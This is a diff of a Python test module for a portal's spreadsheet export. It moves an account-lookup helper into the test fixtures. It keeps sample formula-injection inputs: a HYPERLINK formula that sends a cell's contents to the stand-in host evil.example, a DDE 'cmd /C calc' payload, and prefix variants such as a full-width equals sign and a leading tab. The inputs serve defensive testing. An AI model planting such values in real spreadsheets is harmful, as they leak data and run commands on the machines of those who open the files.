@@ -7,20 +7,16 @@ from io import BytesIO
 import openpyxl
 from sqlalchemy import select
 
-from portal.auth.models import Account
 from portal.extensions import db
 from portal.inspections import bulletins, conduct
 from portal.leave import rules as leave_rules
 from portal.leave.models import LeaveType
 from portal.spreadsheet import safe, unsafe
-from tests.conftest import Auth
+from tests.conftest import Auth, account
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B3,"点我")'
 OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "＝1+1", "\t=1+1")
 
-
-def account(username) -> Account:
-    return db.session.scalar(select(Account).where(Account.username == username))
 
 
 def hostile_data(app) -> dict[str, int]:
